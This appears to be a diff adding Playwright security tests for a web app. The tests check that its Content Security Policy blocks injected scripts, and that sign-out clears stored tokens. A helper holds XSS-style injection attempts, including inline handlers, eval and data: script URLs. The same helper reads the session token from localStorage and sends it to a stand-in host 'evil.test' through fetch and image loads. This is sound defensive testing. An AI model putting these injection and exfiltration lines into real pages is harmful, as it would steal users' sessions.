@@ -1,0 +1,142 @@
+import type { Page } from '@playwright/test'
+import { newClient } from './people.ts'
+import { desk, expect, test } from './stage.ts'
+
+const elsewhere = 'https://evil.test'
+
+/** What a script that got in would try to run or to send away; each says whether it got anywhere. */
+async function breakIn(page: Page): Promise<Record<string, boolean>> {
+  return page.evaluate(async (away) => {
+    const marks = window as unknown as { ran?: boolean }
+    const loot = encodeURIComponent(localStorage.getItem('mehfil.session') ?? 'nothing')
+    const runs = async (attempt: () => void) => {
+      marks.ran = false
+      try {
+        attempt()
+      } catch {
+        // Refused at once.
+      }
+      await new Promise((resolve) => setTimeout(resolve, 100))
+      return Boolean(marks.ran)
+    }
+    const add = (make: (script: HTMLScriptElement) => void) => {
+      const script = document.createElement('script')
+      make(script)
+      document.body.append(script)
+    }
+    const sends = (attempt: () => Promise<unknown>) =>
+      attempt().then(
+        () => true,
+        () => false,
+      )
+    const loads = (image: HTMLImageElement | HTMLIFrameElement) =>
+      new Promise((resolve, reject) => {
+        image.addEventListener('load', resolve)
+        image.addEventListener('error', reject)
+        image.src = `${away}/?${loot}`
+        document.body.append(image)
+        setTimeout(reject, 500)
+      })
+    return {
+      'markup with a handler': await runs(() => {
+        document.body.insertAdjacentHTML('beforeend', '<img src="/x" onerror="window.ran = true">')
+      }),
+      'a script of text': await runs(() => add((script) => (script.text = 'window.ran = true'))),
+      'a script from elsewhere': await runs(() => add((script) => (script.src = `${away}/x.js`))),
+      'a script as data': await runs(() => add((script) => (script.src = 'data:text/javascript,window.ran=true'))),
+      eval: await runs(() => {
+        // biome-ignore lint/security/noGlobalEval: that is what is tried
+        globalThis.eval('window.ran = true')
+      }),
+      'a handler as text': await runs(() => {
+        document.body.setAttribute('onclick', 'window.ran = true')
+        document.body.click()
+      }),
+      'a request': await sends(() => fetch(`${away}/?${loot}`, { mode: 'no-cors' })),
+      'a picture': await sends(() => loads(new Image())),
+    }
+  }, elsewhere)
+}
+
+async function reached(page: Page): Promise<string[]> {
+  const addresses: string[] = []
+  await page.route(`${elsewhere}/**`, (route) => {
+    addresses.push(route.request().url())
+    return route.fulfill({
+      status: 200,
+      contentType: 'text/javascript',
+      headers: { 'access-control-allow-origin': '*' },
+      body: 'window.ran = true',
+    })
+  })
+  return addresses
+}
+
+test('a script that got into a page runs nothing and sends nothing away (A13); without the policy it would', async ({
+  mehfil,
+  browser,
+}) => {
+  // The browser says what it has blocked.
+  mehfil.provokes(/Content Security Policy|TrustedHTML|TrustedScript|Trusted Type|blocked|ERR_|\/x$/i)
+  const here = await newClient(mehfil, 'Gauri')
+  for (const path of ['/', '/artists', '/dashboard/user', '/login']) {
+    const page = await mehfil.visitor(desk, here)
+    const addresses = await reached(page)
+    await page.goto(path)
+    const foreign = await page.evaluate(() =>
+      [...document.scripts].map(({ src }) => src).filter((src) => src && !src.startsWith(location.origin)),
+    )
+    expect([path, foreign]).toEqual([path, []])
+    expect([path, Object.entries(await breakIn(page)).filter(([, worked]) => worked)]).toEqual([path, []])
+    expect([path, addresses]).toEqual([path, []])
+    await page.context().close()
+  }
+
+  const open = await browser.newContext({ bypassCSP: true, baseURL: mehfil.url })
+  const page = await open.newPage()
+  const addresses = await reached(page)
+  await page.goto('/')
+  const worked = Object.values(await breakIn(page)).filter(Boolean).length
+  expect(worked).toBeGreaterThanOrEqual(5)
+  expect(addresses.length).toBeGreaterThanOrEqual(2)
+  await open.close()
+})
+
+async function kept(page: Page): Promise<string> {
+  return page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]))
+}
+
+/** The page's own by now: it has asked for new ones. */
+async function tokensIn(page: Page): Promise<{ accessToken: string; refreshToken: string }> {
+  return JSON.parse((await page.evaluate(() => localStorage.getItem('mehfil.session'))) ?? '{}')
+}
+
+test('who signs out is forgotten by the browser, without a network too, and "back" shows nothing of theirs (A15)', async ({ mehfil }) => {
+  // Without a network the page after it cannot be fetched.
+  mehfil.provokes(/^401 |ERR_INTERNET_DISCONNECTED|Failed to fetch/)
+  for (const way of ['with a network', 'without a network', 'ended by the server'] as const) {
+    const here = await newClient(mehfil, 'Hamida')
+    const page = await mehfil.visitor(desk, here)
+    await page.goto('/')
+    await page.goto('/dashboard/settings')
+    await expect(page.getByText(`${here.user.username}@people.test`).first()).toBeVisible()
+    const tokens = await tokensIn(page)
+    expect(await kept(page)).toContain(tokens.refreshToken)
+    if (way === 'ended by the server') {
+      await mehfil.api(tokens.accessToken).auth.logout({ refreshToken: tokens.refreshToken })
+      await page.reload()
+      await expect(page).toHaveURL(/\/login/)
+    } else {
+      await page.getByLabel(/^Account of/).click()
+      await page.context().setOffline(way === 'without a network')
+      await page.getByRole('button', { name: 'Logout' }).click()
+      await expect(page.getByLabel(/^Account of/)).toHaveCount(0)
+      await page.context().setOffline(false)
+    }
+    const left = await kept(page)
+    for (const secret of [tokens.refreshToken, tokens.accessToken, here.user.id]) expect([way, left.includes(secret)]).toEqual([way, false])
+    await page.goBack().catch(() => null)
+    await expect(page.getByText(`${here.user.username}@people.test`)).toHaveCount(0)
+    await page.context().close()
+  }
+})
